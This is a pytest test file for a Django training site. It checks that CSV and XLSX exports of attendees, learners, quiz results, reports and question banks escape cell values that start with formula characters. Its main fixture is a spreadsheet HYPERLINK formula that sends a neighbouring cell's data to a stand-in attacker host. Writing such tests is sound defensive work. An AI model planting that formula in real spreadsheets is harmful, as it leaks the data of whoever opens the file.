"""Every CSV and XLSX the site writes shows a name typed as a formula as plain text.

A learner who signs up as `=HYPERLINK("http://evil.example/?d="&A2,"Xem")` must not become
a live link in the file a trainer or the department opens in Excel: the text comes out with
a leading "'" and, in workbooks, as a text cell (never data type "f"). Ordinary names and
numbers come out unchanged, numbers still numbers.
"""

import csv
import io
from datetime import timedelta
from decimal import Decimal

from django.contrib.auth.models import Group
from django.utils import timezone

import pytest
from openpyxl import load_workbook

from certificates.services import issue_certificate
from courses import services, training_services
from courses.attendee_import import sheet_template
from courses.models import Enrolment, Question, QuestionOption, QuizAttempt, Training
from courses.question_bank import parse_workbook
from people import roles
from people.models import AdministrativeUnit, Organisation, Person
from tests.factories import make_learner, make_quiz, make_staff

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Xem")'
SAFE = "'" + FORMULA
NAME = "Nguyễn Thị Hằng"


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def all_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(data: bytes) -> list:
    cells = all_cells(data)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    return cells


@pytest.fixture
def department(db):
    return make_staff("so@example.org", roles.DEPARTMENT_OFFICER)


def make_training(site_tree, **fields):
    today = timezone.localdate()
    values = {
        "format": "tap_huan",
        "title": "Tập huấn phòng ngừa bạo lực",
        "track": site_tree.tracks[0],
        "organiser": Organisation.objects.order_by("sort_order").first(),
        "district": AdministrativeUnit.objects.get(code="587"),
        "venue": "Hội trường UBND",
        "starts_on": today,
        "ends_on": today + timedelta(days=1),
        "hours": Decimal("8"),
    }
    values.update(fields)
    return Training.objects.create(**values)


def test_training_attendees_csv(client, site_tree, department):
    training = make_training(site_tree)
    for name, year, score in [(FORMULA, 1985, Decimal("4.5")), (NAME, 1990, Decimal("9"))]:
        person = Person.objects.create(full_name=name, birth_year=year)
        attendee = training_services.attendee_add(training=training, person=person, source="manual")
        attendee.pre_score = score
        attendee.save()
    client.force_login(department)
    rows = csv_rows(client.get(f"/trainings/{training.pk}/manage/attendees.csv").content)
    by_year = {row[2]: row for row in rows[1:]}
    assert by_year["1985"][0] == SAFE and by_year["1985"][5] == "4.50"
    assert by_year["1990"][0] == NAME and by_year["1990"][5] == "9.00"


def test_course_learners_csv(client, site_tree, department):
    course = site_tree.courses[0]
    for email, name in [("a@example.org", FORMULA), ("b@example.org", NAME)]:
        learner = make_learner(email, full_name=name)
        services.enrolment_create(person=learner.person, course=course)
    client.force_login(department)
    rows = csv_rows(client.get(course.url + "learners/csv/").content)
    assert sorted(row[0] for row in rows[1:]) == sorted([SAFE, NAME])
    assert {row[5] for row in rows[1:]} == {"3"}  # lessons in the course, a plain number


def test_course_results_csv(client, site_tree, department):
    course = site_tree.courses[0]
    quiz = make_quiz(course, questions=1, title="+Kiểm tra cuối khóa")
    for email, name, score in [("a@example.org", FORMULA, 40), ("b@example.org", NAME, 90)]:
        person = make_learner(email, full_name=name).person
        QuizAttempt.objects.create(
            quiz=quiz,
            person=person,
            number=1,
            kind=quiz.kind,
            layout=[],
            submitted_at=timezone.now(),
            score=Decimal(score),
            passed=score >= quiz.pass_mark,
        )
    client.force_login(department)
    rows = csv_rows(client.get(course.url + "results/csv/").content)
    learners = {row[0]: row for row in rows[1:3]}
    assert set(learners) == {SAFE, NAME}
    assert learners[SAFE][1] == "'+Kiểm tra cuối khóa"
    assert learners[NAME][2:4] == ["1", "90"]  # attempts and best score, as numbers


@pytest.fixture
def certified(site_tree):
    """A learner named as a formula and one with an ordinary name, both certified this year,
    in a track whose title is a formula."""
    track = site_tree.tracks[0]
    track.title = "@SUM(1+1)"
    track.save_revision().publish()
    course = site_tree.courses[0]
    for email, name in [("a@example.org", FORMULA), ("b@example.org", NAME)]:
        person = make_learner(email, full_name=name).person
        Enrolment.objects.create(
            person=person, course=course, course_title=course.title, completed_at=timezone.now()
        )
        issue_certificate(person, course, notify=False)
    return course


def test_report_csv(client, certified, department):
    client.force_login(department)
    rows = csv_rows(client.get("/reports/export.csv").content)
    header = next(row for row in rows if "'@SUM(1+1)" in row)
    assert "@SUM(1+1)" not in header
    total = next(row for row in rows if row and row[0].startswith("Tổng cộng"))
    assert total[1] == "2"


def test_report_xlsx(client, certified, department):
    client.force_login(department)
    response = client.get("/reports/export.xlsx")
    cells = assert_no_formula(b"".join(response.streaming_content))
    values = [cell.value for cell in cells]
    assert SAFE in values and NAME in values and FORMULA not in values
    assert "'@SUM(1+1)" in values
    label = "Số người được cấp giấy chứng nhận (mỗi người một lần)"
    certified_people = next(cell for cell in cells if cell.value == label)
    number = next(cell for cell in cells if cell.row == certified_people.row and cell.column == 2)
    assert (number.value, number.data_type) == (2, "n")


def test_question_bank_xlsx_round_trips(client, site_tree, department):
    course = site_tree.courses[0]
    question = Question.objects.create(
        course=course, kind="single", text=FORMULA, explanation="@giải thích"
    )
    QuestionOption.objects.create(question=question, text="-5", is_correct=True, sort_order=0)
    QuestionOption.objects.create(question=question, text="10", is_correct=False, sort_order=1)
    plain = Question.objects.create(course=course, kind="true_false", text=NAME)
    QuestionOption.objects.create(question=plain, text="Đúng", is_correct=True, sort_order=0)
    QuestionOption.objects.create(question=plain, text="Sai", is_correct=False, sort_order=1)
    client.force_login(department)
    data = client.get(f"/admin/question-bank/{course.pk}/export.xlsx").content
    values = [cell.value for cell in assert_no_formula(data)]
    assert SAFE in values and "'-5" in values and "'@giải thích" in values and NAME in values

    # Imported again, the quotes go: the bank reads as it was written.
    parsed = parse_workbook(data)
    assert parsed[0].text == FORMULA
    assert parsed[0].options == [("-5", True), ("10", False)]
    assert parsed[0].explanation == "@giải thích"


def test_sign_in_sheet_template(site_tree):
    Organisation.objects.create(name=FORMULA, short_name="-Ban")
    values = [cell.value for cell in assert_no_formula(sheet_template())]
    assert SAFE in values and "'-Ban" in values
    assert "Huyện Ninh Phước" in values


def test_trainer_download_of_the_template_has_no_formula(client, site_tree):
    trainer = make_learner("gv@example.org")
    trainer.groups.add(Group.objects.get(name=roles.TRAINER))
    Organisation.objects.create(name=FORMULA, short_name="X")
    client.force_login(trainer)
    response = client.get("/trainings/manage/sheet-template.xlsx")
    assert response.status_code == 200
    assert SAFE in [cell.value for cell in assert_no_formula(response.content)]
